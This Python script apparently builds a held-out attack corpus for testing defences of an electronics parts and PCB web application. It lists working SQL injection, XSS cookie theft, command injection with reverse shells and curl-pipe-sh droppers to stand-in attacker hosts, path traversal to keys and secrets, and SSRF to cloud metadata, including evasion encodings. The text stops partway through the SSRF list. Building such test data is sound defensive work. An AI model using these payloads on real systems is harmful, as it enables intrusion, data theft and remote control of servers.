"""Attack held-out corpus for the electronics theme (ids ha77-NNNNN).

Payloads that arrive in the same fields as the benign corpus (part numbers,
BOM lines, SPICE netlists, HDL snippets, register notes, datasheet URLs,
KiCad/Gerber paths, forum posts, order notes) and work against an application
that places the value where the class says:

  partsearch / mpn      -> concatenated into  ... WHERE mpn LIKE '%<v>%' / = '<v>'
  bomimport / review    -> concatenated into an INSERT ... VALUES ('<v>', ...)
  qty / page / sort     -> numeric / ORDER BY position in SQL
  forum / review / bom  -> rendered into HTML without escaping (xss)
  netlist / gerber / flashport / compileflags -> a shell line (ngspice, gerbv,
                           avrdude, arm-none-eabi-gcc ...)
  datasheet / gerberzip / footprint -> a file path opened by the server
  datasheeturl / webhook / partimage -> a URL fetched by the server
  labeltpl / bomreport  -> a server-side template; bomexport -> a CSV cell
  login / partfilter    -> a MongoDB query document; directory -> LDAP filter
  catalog               -> an XPath expression; download / mail / log -> headers,
                           mail headers or a log line

Class = "<context>-<technique>[+<encoding>]"; "plain-" = no domain wrapping.
Every payload is hand-written for this corpus (literals, or small templates over
hand-written pools). Attacker infrastructure: attacker.example,
203.0.113.0/24, 198.51.100.0/24. Tokens are fake placeholders.
Output: attacks.jsonl next to this file; byte-identical on every run.
"""

import base64
import json
import random
from pathlib import Path
from urllib.parse import quote

SEED = 7702
PREFIX = "ha77"


def url(s):
    """URL-encode every reserved character once."""
    return quote(s, safe="")


def url2(s):
    """URL-encode twice."""
    return url(url(s))


def ent_dec(s):
    """HTML decimal entities for every character."""
    return "".join(f"&#{ord(c)};" for c in s)


def ent_hex(s):
    """HTML hex entities for every character."""
    return "".join(f"&#x{ord(c):x};" for c in s)


def b64(s):
    return base64.b64encode(s.encode("utf-8") if isinstance(s, str) else s).decode("ascii")


# --------------------------------------------------------------------------
# sqli
# --------------------------------------------------------------------------
SQLI = [
    ("partsearch-union-select", "STM32F103%' UNION SELECT username,password_hash,email FROM users-- -"),
    ("mpn-union-information-schema", "LM358DR' UNION SELECT NULL,NULL,table_name,NULL FROM information_schema.tables-- -"),
    ("bom-union-select", "R1,R2 10k 0603 1%' UNION SELECT api_key,secret,NULL FROM integrations-- -"),
    ("bomimport-stacked-drop", "U3 STM32F103C8T6'); DROP TABLE bom_items;--"),
    ("qty-numeric-tautology", "100 OR 1=1"),
    ("datasheetid-numeric-union", "-1 UNION SELECT 1,concat(username,0x3a,password),3 FROM users"),
    ("mpn-boolean-blind-substring", "NE555P' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a'-- -"),
    ("mpn-boolean-blind-ascii", "TL072CP' AND ASCII(SUBSTR((SELECT token FROM sessions LIMIT 1),1,1))>77 AND '1'='1"),
    ("partsearch-time-mysql-sleep", "0603%' AND SLEEP(5)-- -"),
    ("mpn-time-mysql-conditional", "BSS138' AND IF(MID(@@version,1,1)='8',SLEEP(6),0)-- -"),
    ("mpn-stacked-pg-sleep", "AO3401A'; SELECT pg_sleep(7);--"),
    ("mpn-time-pg-conditional", "2N7002' AND 1=(SELECT CASE WHEN (SELECT COUNT(*) FROM pg_user WHERE usesuper)>0 THEN (SELECT 1 FROM pg_sleep(5)) ELSE 1 END)-- "),
    ("mpn-stacked-mssql-waitfor", "74HC595D'; WAITFOR DELAY '0:0:6';--"),
    ("mpn-stacked-mssql-conditional-waitfor", "CH340C'; IF (SELECT COUNT(*) FROM sys.sql_logins WHERE name='sa')=1 WAITFOR DELAY '0:0:5';--"),
    ("mpn-time-sqlite-randomblob", "ATtiny85-20SU' AND 1=(SELECT LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(200000000)))))--"),
    ("mpn-error-mysql-extractvalue", "LM1117-3.3' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT user()),0x7e))-- -"),
    ("mpn-error-mysql-updatexml", "ESP32-WROOM-32E' AND UPDATEXML(NULL,CONCAT(0x2e,(SELECT GROUP_CONCAT(email) FROM customers)),NULL)-- -"),
    ("mpn-error-mssql-convert", "TPS62160' AND 1=CONVERT(int,(SELECT TOP 1 password_hash FROM dbo.users))--"),
    ("mpn-error-pg-cast", "W25Q128JVSIQ' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("mpn-error-oracle-ctxsys", "MCP2551' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("mpn-union-oracle-version", "SN65HVD72' UNION SELECT banner,NULL FROM v$version--"),
    ("mpn-union-sqlite-master", "DRV8833' UNION SELECT name,sql FROM sqlite_master WHERE type='table'--"),
    ("review-stacked-update-role", "solid regulator, runs cool'; UPDATE users SET role='admin' WHERE email='maker@attacker.example';--"),
    ("review-insert-subquery", "great part, 5 stars'),('U1',(SELECT password_hash FROM users WHERE id=1))-- -"),
    ("sort-orderby-conditional", "price,(SELECT CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users LIMIT 1)='a' THEN price ELSE stock END)"),
    ("sort-orderby-time", "IF((SELECT COUNT(*) FROM users WHERE role='admin')>0,SLEEP(3),mpn)"),
    ("page-limit-procedure-analyse", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("mpn-union-into-outfile", "LM317T' UNION SELECT '<?php system($_GET[\"c\"]); ?>',NULL INTO OUTFILE '/var/www/html/img/p.php'-- -"),
    ("datasheetid-union-load-file", "0 UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
    ("mpn-stacked-mssql-xp-cmdshell", "IRLZ44N'; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE; EXEC xp_cmdshell 'whoami';--"),
    ("mpn-stacked-mssql-xp-dirtree-oob", "MAX232'; EXEC master..xp_dirtree '\\\\203.0.113.14\\x';--"),
    ("mpn-oracle-utl-http-oob", "LM393' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("mpn-stacked-pg-copy-program", "INA219'; COPY (SELECT '') TO PROGRAM 'curl http://198.51.100.3/p|sh';--"),
    ("mpn-mysql-load-file-dns-oob", "HC-05' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\\\a'))-- -"),
    ("partsearch-concat-subquery", "BC547'||(SELECT password FROM users LIMIT 1)||'"),
    ("profile-second-order-comment", "admin'-- "),
    ("login-comment-truncation", "admin'/*"),
    ("partfilter-paren-tautology", "SMD') OR ('x'='x"),
    ("partsearch-dquote-tautology", "0805\" OR \"\"=\""),
    ("bomjson-tautology", "{\"mpn\":\"LM358' OR 1=1-- -\",\"qty\":10}"),
    ("bomcsv-union-select", "\"R5\",\"1\",\"10k' UNION SELECT password,2,3 FROM users-- -\",\"R_0603\""),
    ("netlisttitle-stacked-delete", "* sim title: buck'); DELETE FROM simulations WHERE ('1'='1"),
    ("mpn-mssql-having-error", "LM7805' GROUP BY mpn HAVING 1=1--"),
    ("mpn-boolean-blind-regexp", "AMS1117' AND (SELECT password FROM users LIMIT 1) REGEXP '^[a-f]'-- -"),
    ("mpn-stacked-pg-copy-from-program", "TLV9062'; CREATE TABLE cmd_out(t text); COPY cmd_out FROM PROGRAM 'id';--"),
    ("mpn-stacked-sqlite-attach-webshell", "ULN2003A'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.t (d text); INSERT INTO x.t VALUES ('<?php system($_GET[0]); ?>');--"),
    ("page-numeric-subquery-blind", "3-(SELECT 1 FROM users WHERE username='admin' AND password LIKE 'a%')"),
    ("categoryid-in-union", "1) UNION SELECT id,email,password_hash FROM users-- -"),
    ("ordernote-stacked-update-price", "please ship fast'; UPDATE order_items SET unit_price=0.01 WHERE order_id=48213;--"),
    ("review-insert-mysql-version", "meh, noisy output', (SELECT @@version))-- -"),
    ("mpn-boolean-blind-pg-exists", "BAT54S' AND EXISTS(SELECT 1 FROM pg_shadow WHERE usename='postgres' AND passwd LIKE 'md5%')--"),
    ("mpn-mysql-json-error", "TXB0104' AND JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x7e,user())) USING utf8)))-- -"),
    ("partsearch-union+comment-space", "'/**/UNION/**/SELECT/**/username,password/**/FROM/**/users#"),
    ("mpn-union+case-mix", "LM7805' uNiOn SeLeCt NuLl,vErSiOn(),NuLl-- -"),
    ("mpn-union+versioned-comment", "NRF24L01' /*!50000UNION*/ /*!50000SELECT*/ 1,group_concat(email),3 FROM customers-- -"),
    ("partsearch-tautology+urlenc", url("0603' OR '1'='1'-- -")),
    ("partsearch-union+double-urlenc", url2("1206' UNION SELECT username,password FROM users-- -")),
    ("mpn-union+hex-literal", "MPU6050' UNION SELECT 1,password,3 FROM users WHERE username=0x61646d696e-- -"),
    ("login-tautology+char-func", "' OR username=CHAR(97,100,109,105,110)-- -"),
    ("partsearch-union+newline-space", "'\nUNION\nSELECT\nemail,\npassword\nFROM\nusers\n-- -"),
    ("bomjson-tautology+unicode-escape", "{\"mpn\":\"LM358\\u0027 OR 1=1-- -\",\"qty\":1}"),
    ("login-tautology+no-space", "'OR(1)=(1)#"),
    ("plain-tautology", "' OR 1=1-- -"),
    ("plain-stacked-drop", "1; DROP TABLE users--"),
    ("plain-union-nulls", "' UNION SELECT NULL,NULL,NULL--"),
    ("plain-time-sleep", "1 AND SLEEP(5)"),
    ("plain-union-version", "' AND 1=0 UNION ALL SELECT @@version,NULL#"),
    ("plain-boolean-false", "1' AND '1'='2"),
    ("plain-stacked-waitfor", "'; WAITFOR DELAY '0:0:5'--"),
]

SQLI_MPNS = ["STM32G031K8", "LM2596S", "MCP3008", "74HC4051", "ATmega32U4", "TP4056",
             "SI2302", "AD8232", "HX711", "DS18B20", "PCF8574", "RP2040"]
SQLI_SUFFIXES = [
    ("mpn-tautology", "' OR '{a}'='{a}"),
    ("mpn-time-mysql-sleep", "' AND SLEEP({n})-- -"),
    ("mpn-union-select", "' UNION SELECT {cols} FROM users-- -"),
    ("partsearch-boolean-blind", "%' AND (SELECT COUNT(*) FROM users)>{n}-- -"),
    ("mpn-stacked-pg-sleep", "'; SELECT pg_sleep({n});--"),
]
SQLI_COLS = ["email,password_hash", "username,password,NULL", "id,api_token,NULL,NULL"]


def tpl_sqli(rng):
    cls, sfx = rng.choice(SQLI_SUFFIXES)
    v = rng.choice(SQLI_MPNS) + sfx.format(a=rng.choice("xyzq"), n=rng.randint(3, 9),
                                           cols=rng.choice(SQLI_COLS))
    return cls, v


# --------------------------------------------------------------------------
# xss
# --------------------------------------------------------------------------
XSS = [
    ("forum-script-cookie-exfil", "Great tutorial! <script>fetch('https://attacker.example/c?'+encodeURIComponent(document.cookie))</script>"),
    ("review-img-onerror", "Works fine at 3.3 V <img src=x onerror=\"new Image().src='//attacker.example/l?c='+document.cookie\">"),
    ("bom-svg-onload", "R1 10k <svg onload=alert(document.domain)>"),
    ("partattr-event-breakout", "10k\" onmouseover=\"alert(document.cookie)\" data-x=\""),
    ("partattr-autofocus-breakout", "STM32\" autofocus onfocus=\"fetch('//attacker.example/?'+document.cookie)\" x=\""),
    ("search-jsstring-breakout", "LM358';alert(document.domain);//"),
    ("search-script-close", "TL431</script><script>alert(origin)</script>"),
    ("datasheet-href-javascript", "javascript:fetch('//attacker.example/'+document.cookie)"),
    ("forum-markdown-js-link", "[Datasheet (PDF)](javascript:alert(document.cookie))"),
    ("forum-markdown-img-attr", "![schematic](x\" onerror=\"alert(document.domain))"),
    ("forum-details-ontoggle", "<details open ontoggle=alert(document.cookie)><summary>Pinout</summary>PA9 TX, PA10 RX</details>"),
    ("forum-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(document.domain)</script>\"></iframe>"),
    ("forum-object-data-uri+base64", "<object data=\"data:text/html;base64," + b64("<script>alert(document.domain)</script>") + "\"></object>"),
    ("forum-meta-refresh-redirect", "New firmware here: <meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
    ("forum-base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("forum-form-phishing", "<form action=\"https://attacker.example/collect\" method=\"post\"><input name=\"password\" type=\"password\" placeholder=\"Session expired, re-enter password\"><button>Login</button></form>"),
    ("forum-css-attribute-exfil", "<style>input[name=csrf][value^=\"a\"]{background:url(https://attacker.example/csrf?a)}</style>"),
    ("forum-body-onload-redirect", "<body onload=\"location='https://attacker.example/?c='+document.cookie\">"),
    ("review-video-source-onerror", "<video><source onerror=\"alert(document.domain)\"></video>"),
    ("review-audio-onerror", "Buzzer sample: <audio src=x onerror=alert(document.cookie)>"),
    ("ordernote-marquee-onstart", "<marquee onstart=alert(document.domain)>NEW: STM32 back in stock</marquee>"),
    ("svgupload-xlink-javascript", "<svg><a xlink:href=\"javascript:alert(document.domain)\"><text x=\"10\" y=\"20\">schematic.svg</text></a></svg>"),
    ("forum-svg-animate-onbegin", "<svg><animate onbegin=alert(document.domain) attributeName=x dur=1s>"),
    ("forum-svg-set-href", "<svg><a><set attributeName=\"href\" to=\"javascript:alert(document.cookie)\"/><text y=\"20\">click for gerbers</text></a></svg>"),
    ("forum-angular-template-injection", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("forum-vue-template-injection", "{{_c.constructor('fetch(\"//attacker.example/\"+document.cookie)')()}}"),
    ("pagestate-json-script-close", "{\"note\":\"</script><img src=x onerror=alert(document.domain)>\"}"),
    ("search-js-template-literal", "${fetch('//attacker.example/t?'+document.cookie)}"),
    ("gerberviewer-dom-hash", "#\"><img src=x onerror=alert(document.domain)>"),
    ("forum-textarea-close", "</textarea><script>alert(document.domain)</script>"),
    ("projecttitle-title-close", "ledmatrix rev B</title><script>alert(document.cookie)</script>"),
    ("forum-html-comment-close", "--><img src=x onerror=alert(document.domain)>"),
    ("forum-img-dynamic-import", "<img src=1 onerror=import('//attacker.example/x.js')>"),
    ("forum-img-atob-eval+base64", "<img src=x onerror=eval(atob('" + b64("alert(document.cookie)") + "'))>"),
    ("forum-svg-fromcharcode", "<svg onload=alert(String.fromCharCode(88,83,83))>"),
    ("datasheetlink-href-javascript+html-entity", "<a href=\"" + ent_dec("javascript:") + "alert(document.domain)\">datasheet p.7</a>"),
    ("forum-img-onerror+html-hex-entity", "<img src=x onerror=\"" + ent_hex("alert") + "(document.cookie)\">"),
    ("search-script+urlenc", url("<script>alert(document.domain)</script>")),
    ("search-attr-breakout+double-urlenc", url2("\"><svg onload=alert(document.cookie)>")),
    ("forum-img-onerror+js-unicode-escape", "<img src=x onerror=\\u0061lert(document.domain)>"),
    ("forum-script+case-mix", "<ScRiPt>alert(document.domain)</sCrIpT>"),
    ("forum-svg-onload+slash-separator", "<svg/onload=alert(document.cookie)>"),
    ("forum-img-onerror+tab-separator", "<img\tsrc=x\tonerror=alert(document.domain)>"),
    ("forum-img-tagged-template", "<img src=x onerror=alert`1`>"),
    ("forum-img-onerror-throw", "<img src=x onerror=\"window.onerror=alert;throw document.domain\">"),
    ("forum-div-pointer-overlay", "<div onpointerenter=\"alert(document.cookie)\" style=\"position:fixed;inset:0\">"),
    ("bom-bold-onmouseover", "100nF 0402 <b onmouseover=alert(document.domain)>X7R</b>"),
    ("hdlsnippet-script-src", "always @(posedge clk) begin <script src=//attacker.example/k.js></script> end"),
    ("netlist-img-onerror-chain", "* RC filter <img src=//attacker.example/p.gif onerror=\"this.onerror=null;this.src='//attacker.example/?'+document.cookie\">"),
    ("regmap-svg-localstorage", "GPIOA->ODR |= (1<<5); <svg/onload=fetch('//attacker.example/'+localStorage.getItem('token'))>"),
    ("forum-codeblock-escape", "```\n</code></pre><script>alert(document.domain)</script>\n```"),
    ("ordernote-script-src", "Please ship fast \"><script src=https://attacker.example/h.js></script>"),
    ("multilingual-img-onerror", "Widerstand geändert <img src=x onerror=alert('XSS')>"),
    ("datasheet-anchor-javascript", "See p.7 <a href=\"javascript:alert(document.cookie)\">Table 5</a>"),
    ("upload-filename-tag", "\"><img src=x onerror=alert(document.domain)>.kicad_pcb"),
    ("svgupload-inline-script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script><rect width=\"10\" height=\"10\"/></svg>"),
    ("forum-button-formaction", "<form><button formaction=javascript:alert(document.cookie)>Download BOM</button></form>"),
    ("datasheet-href-javascript+tab-split", "java\tscript:alert(document.domain)"),
    ("forum-math-mglyph-confusion", "<math><mtext><table><mglyph><style><img src=x onerror=alert(document.domain)>"),
    ("plain-script-alert", "<script>alert(1)</script>"),
    ("plain-attr-breakout-script", "\"><script>alert(document.cookie)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-jsstring-minus", "'-alert(1)-'"),
    ("plain-input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("plain-javascript-uri", "javascript:alert(document.cookie)"),
]

XSS_PREFIXES = ["U5 74HC595 ", "Nice board! ", "C12 10uF ", "re: OpenOCD error ", "PA9 = TX ",
                "Vout = 5.31 V ", "Order #48213 ", "Gerber rev C "]
XSS_SHAPES = [
    ("forum-img-onerror", "<img src=x onerror={js}>"),
    ("forum-svg-onload", "<svg onload={js}>"),
    ("forum-details-ontoggle", "<details open ontoggle={js}>"),
    ("forum-body-onpageshow", "<body onpageshow={js}>"),
    ("forum-input-onfocus", "<input autofocus onfocus={js}>"),
]
XSS_SINKS = ["alert(document.domain)", "print()", "fetch('//attacker.example/'+document.cookie)",
             "location='//attacker.example/p'"]


def tpl_xss(rng):
    cls, shape = rng.choice(XSS_SHAPES)
    return cls, rng.choice(XSS_PREFIXES) + shape.format(js=rng.choice(XSS_SINKS))


# --------------------------------------------------------------------------
# cmdi
# --------------------------------------------------------------------------
CMDI = [
    ("netlist-semicolon-curl-sh", "buck.cir; curl -s http://attacker.example/s.sh | sh"),
    ("gerber-and-chain", "board-F_Cu.gbr && cat /etc/passwd"),
    ("gerber-or-chain", "board-B_Cu.gbr || wget -q -O /tmp/k http://198.51.100.23/k"),
    ("flashport-command-substitution", "/dev/ttyUSB0$(id>/tmp/o)"),
    ("compileflags-backtick", "-O2 -mcpu=cortex-m3 `uname -a`"),
    ("compileflags-subst-define", "-O2 -DVERSION=$(curl -s http://attacker.example/v)"),
    ("gerber-pipe-nc-shell", "ledmatrix.kicad_pcb | nc 203.0.113.9 4444 -e /bin/sh"),
    ("compile-bash-devtcp", "main.c; bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'"),
    ("flashfile-newline", "blink.hex\nid"),
    ("netlist-time-sleep", "rover.cir; sleep 9"),
    ("pingdiag-time-ping", "x | ping -c 12 127.0.0.1"),
    ("gerber-ifs-space", "board.gbr;cat${IFS}/etc/shadow"),
    ("gerber-brace-expansion", "board.gbr;{cat,/etc/passwd}"),
    ("gerber-cat-passwd+glob", "board.gbr;/???/?at /???/p??swd"),
    ("gerber-cat-passwd+quote-split", "board.gbr;c'a't /e\"t\"c/pa''sswd"),
    ("netlist-base64-pipe+base64", "filter.cir; echo " + b64("curl http://attacker.example/x|sh") + "|base64 -d|sh"),
    ("flashport-printf-hex+hex-escape", "/dev/ttyACM0;$(printf '\\x69\\x64')"),
    ("gerber-semicolon+urlenc", url("board-Edge_Cuts.gm1; id")),
    ("gerber-newline+urlenc", "board-F_Mask.gts%0aid"),
    ("compileflags-arg-wrapper", "-wrapper /bin/sh,-c,id>/tmp/pwn"),
    ("compileflags-arg-fplugin", "-fplugin=/srv/app/uploads/8c1f/plugin.so"),
    ("compileflags-arg-response-file", "@/etc/passwd"),
    ("compileflags-arg-output-overwrite", "-o /var/www/html/index.html"),
    ("compileflags-arg-specs", "-specs=/srv/app/uploads/7d2e/evil.specs"),
    ("libclone-git-ext-transport", "ext::sh -c touch% /tmp/pwned"),
    ("libclone-arg-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("archive-arg-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh gerbers/run.sh"),
    ("fetch-arg-curl-output", "-o /var/www/html/s.php http://attacker.example/s.txt"),
    ("libsearch-find-exec", "*.kicad_sym -exec sh -c 'id' ;"),
    ("deploy-ssh-arg-proxycommand", "-oProxyCommand=sh -c 'id > /tmp/p' x"),
    ("flashport-win-ampersand", "COM3 & whoami"),
    ("flashport-win-pipe-type", "COM4 | type C:\\Windows\\win.ini"),
    ("flashport-powershell-iex", "COM5; powershell -nop -w hidden -c \"iwr http://attacker.example/a.ps1 -UseBasicParsing | iex\""),
    ("flashport-win-comspec", "COM6 & %COMSPEC% /c net user"),
    ("flashport-win-whoami+caret", "COM7 & w^h^o^a^m^i"),
    ("makevar-shell-function", "$(shell curl -s http://attacker.example/m|sh)"),
    ("netlist-control-shell", ".control\nshell curl -s http://attacker.example/n.sh | sh\n.endc"),
    ("netlist-control-shell-embedded", "V1 in 0 DC 5\nR1 in 0 1k\n.control\nshell cat /etc/passwd\nop\n.endc\n.end"),
    ("label-dquote-breakout", "LM358N\"; lp -d label /etc/passwd; echo \""),
    ("label-squote-breakout", "TPS62160' ; id ; echo '"),
    ("gerber-path-substring-slash", "x.gbr;cat${PATH:0:1}etc${PATH:0:1}passwd"),
    ("netlist-wget-post-file", "amp.cir; wget --post-file=/etc/passwd http://attacker.example/up"),
    ("flashport-curl-exfil", "/dev/ttyUSB1$(curl -d @/etc/passwd http://attacker.example/)"),
    ("pingdiag-dns-exfil", "192.168.4.1; nslookup $(whoami).attacker.example"),
    ("netlist-crontab-persist", "osc.cir; (crontab -l; echo '* * * * * curl -s http://attacker.example/c|sh') | crontab -"),
    ("compile-python-reverse-shell", "main.c; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("gerber-busybox-nc", "top.gtl | busybox nc 198.51.100.7 9001 -e sh"),
    ("baudrate-semicolon", "115200; id"),
    ("pingdiag-proc-environ", "192.168.4.1; cat /proc/self/environ"),
    ("pingdiag-subst-sleep", "10.0.0.7$(sleep 8)"),
    ("fwversion-newline-dropper", "v1.2.3\nwget http://attacker.example/b -O /tmp/b;chmod +x /tmp/b;/tmp/b"),
    ("gerber-semicolon+tab-separator", "board.gbr;cat\t/etc/passwd"),
    ("gerber-whoami+dollar-at", "board.gbr;w$@ho$@ami"),
    ("gerber-whoami+backslash", "board.gbr;wh\\oam\\i"),
    ("netlist-herestring+reverse", "mix.cir;$(rev<<<'di')"),
    ("kicadcli-subst-in-output", "--output /tmp/$(id).pdf"),
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-whoami", "| whoami"),
    ("plain-and-uname", "&& uname -a"),
    ("plain-subst-id", "$(id)"),
    ("plain-backtick-id", "`id`"),
    ("plain-newline-cat", "\ncat /etc/passwd"),
    ("plain-pipe-sleep", "| sleep 10"),
]

CMDI_FILES = ["ledmatrix-F_Cu.gbr", "buck.cir", "blink.hex", "/dev/ttyUSB0", "main.c",
              "rover-B_SilkS.gbo", "vco.net", "firmware.bin"]
CMDI_SEPS = [("semicolon", "; "), ("and", " && "), ("pipe", " | "), ("subst", "$("), ("newline", "\n")]
CMDI_CMDS = ["id", "cat /etc/passwd", "curl -s http://attacker.example/i|sh", "sleep 11",
             "nc 203.0.113.40 4444 -e /bin/sh", "uname -a"]
CMDI_CTX = {"gbr": "gerber", "gbo": "gerber", "cir": "netlist", "net": "netlist", "hex": "flashfile",
            "bin": "flashfile", "USB0": "flashport", "c": "compile"}


def tpl_cmdi(rng):
    f = rng.choice(CMDI_FILES)
    sep_name, sep = rng.choice(CMDI_SEPS)
    cmd = rng.choice(CMDI_CMDS)
    ctx = CMDI_CTX[f.rsplit(".", 1)[-1] if "." in f else f.rsplit("tty", 1)[-1]]
    v = f + sep + cmd + (")" if sep == "$(" else "")
    return f"{ctx}-{sep_name}", v


# --------------------------------------------------------------------------
# traversal
# --------------------------------------------------------------------------
TRAVERSAL = [
    ("datasheet-dotdot-passwd", "../../../../etc/passwd"),
    ("datasheet-dotdot-under-dir", "datasheets/../../../../etc/shadow"),
    ("datasheet-dotdot-proc-environ", "../../../../proc/self/environ"),
    ("gerber-backslash-win-ini", "..\\..\\..\\..\\Windows\\win.ini"),
    ("gerber-mixed-slash-webconfig", "..\\../..\\../inetpub/wwwroot/web.config"),
    ("footprint-absolute-path", "/etc/passwd"),
    ("footprint-absolute-win", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("footprint-kiprjmod-dotdot", "${KIPRJMOD}/../../../../root/.ssh/id_rsa"),
    ("symlibtable-uri-absolute", "(lib (name \"Shop\")(type \"KiCad\")(uri \"/home/app/.aws/credentials\"))"),
    ("netlist-include-absolute", ".include /etc/passwd"),
    ("netlist-lib-dotdot", ".lib \"../../../../app/.env\""),
    ("hdl-include-dotdot", "`include \"../../../../etc/shadow\""),
    ("hdl-readmemh-absolute", "initial $readmemh(\"/proc/self/environ\", rom);"),
    ("gerberzip-zipslip-webshell", "../../../../var/www/html/shell.php"),
    ("gerberzip-zipslip-win", "..\\..\\..\\..\\inetpub\\wwwroot\\cmd.aspx"),
    ("gerberzip-zipslip-cron", "gerbers/../../../../etc/cron.d/pwn"),
    ("gerberzip-zipslip-authorized-keys", "gerbers/../../../home/app/.ssh/authorized_keys"),
    ("datasheet-dotdot+nullbyte", "../../../../etc/passwd%00.pdf"),
    ("datasheet-dotdot+urlenc", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("datasheet-dotdot+double-urlenc", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("datasheet-dotdot+overlong-utf8", "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd"),
    ("gerber-dotdot-win+overlong-utf8", "..%c0%af..%c0%af..%c0%afwindows/win.ini"),
    ("datasheet-dotdot+iis-unicode", "%u002e%u002e%u2215%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("datasheet-dotdot+fullwidth", "．．／．．／．．／．．／etc／passwd"),
    ("datasheet-dotdot-nested-strip", "....//....//....//etc/passwd"),
    ("datasheet-dotdot-dot-slash-strip", "..././..././..././..././etc/hosts"),
    ("datasheet-tomcat-semicolon", "/datasheets/..;/..;/manager/html"),
    ("gerber-backslash+urlenc", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("datasheet-proc-cwd", "/proc/self/cwd/config/settings.py"),
    ("datasheet-dotdot-access-log", "../../../../var/log/nginx/access.log"),
    ("gerber-nested-backslash-strip", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("model3d-envvar-dotdot", "${KICAD7_3DMODEL_DIR}/../../../../etc/passwd"),
    ("reporttemplate-dotdot-settings", "../../../../app/settings/production.py"),
    ("gerberjson-dotdot", "{\"file\":\"../../../../etc/passwd\",\"layer\":\"F_Cu\"}"),
    ("datasheet-dotdot-k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("datasheet-dotdot-bash-history", "../../../../root/.bash_history"),
    ("datasheet-dotdot-git-config", "lm358.pdf/../../../../home/app/src/.git/config"),
    ("datasheet-php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("datasheet-dotdot-mixed+double-urlenc", "..%252f..%252f..%252f..%252fetc%252fpasswd"),
    ("firmwareimage-dotdot-ssh-key", "firmware/../../../../home/pi/.ssh/id_ed25519"),
    ("plain-dotdot-passwd", "../../../etc/passwd"),
    ("plain-backslash-bootini", "..\\..\\..\\boot.ini"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("plain-deep-dotdot-hosts", "../../../../../../../../../../etc/hosts"),
    ("plain-win-absolute-ini", "C:\\Windows\\win.ini"),
]

TRAV_DIRS = ["datasheets/", "gerbers/", "footprints.pretty/", "uploads/bom/", "models/", ""]
TRAV_TARGETS = ["etc/passwd", "etc/hostname", "proc/self/cmdline", "app/.env",
                "root/.ssh/authorized_keys", "var/lib/app/db.sqlite3"]
TRAV_CTX = {"datasheets/": "datasheet", "gerbers/": "gerber", "footprints.pretty/": "footprint",
            "uploads/bom/": "bomfile", "models/": "model3d", "": "datasheet"}


def tpl_traversal(rng):
    d = rng.choice(TRAV_DIRS)
    depth = rng.randint(3, 8)
    return f"{TRAV_CTX[d]}-dotdot", d + "../" * depth + rng.choice(TRAV_TARGETS)


# --------------------------------------------------------------------------
# ssrf
# --------------------------------------------------------------------------
SSRF = [
    ("datasheeturl-aws-imds-creds", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("datasheeturl-aws-imds-userdata", "http://169.254.169.254/latest/user-data"),
    ("partimage-gcp-metadata-token", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook-azure-imds-token", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("datasheeturl-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("partimage-digitalocean-metadata", "http://169.254.169.254/metadata/v1.json"),
    ("webhook-gopher-redis-webshell", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASET%20x%20%22%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0AQUIT%0D%0A"),
    ("webhook-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("datasheeturl-docker-api", "http://127.0.0.1:2375/containers/json?all=1"),
    ("webhook-kubelet-pods", "https://10.0.0.1:10250/pods"),
    ("partimage-elasticsearch", "http://localhost:9200/_cat/indices?v"),
    ("datasheeturl-internal-admin", "http://localhost:8080/admin/users?export=csv"),
    ("datasheeturl-ipv6-loopback", "http://[::1]:8000/internal/config"),
